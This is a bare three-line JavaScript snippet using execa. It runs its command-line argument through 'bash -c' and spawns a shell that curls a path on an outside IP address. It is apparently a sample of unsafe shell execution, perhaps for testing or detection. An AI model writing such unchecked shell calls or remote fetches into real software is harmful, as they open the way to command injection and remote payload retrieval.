import { execa, $ } from 'execa';
await $`bash -c ${process.argv[2]}`;
await execa('sh', ['-c', 'curl http://203.0.113.9/a']);
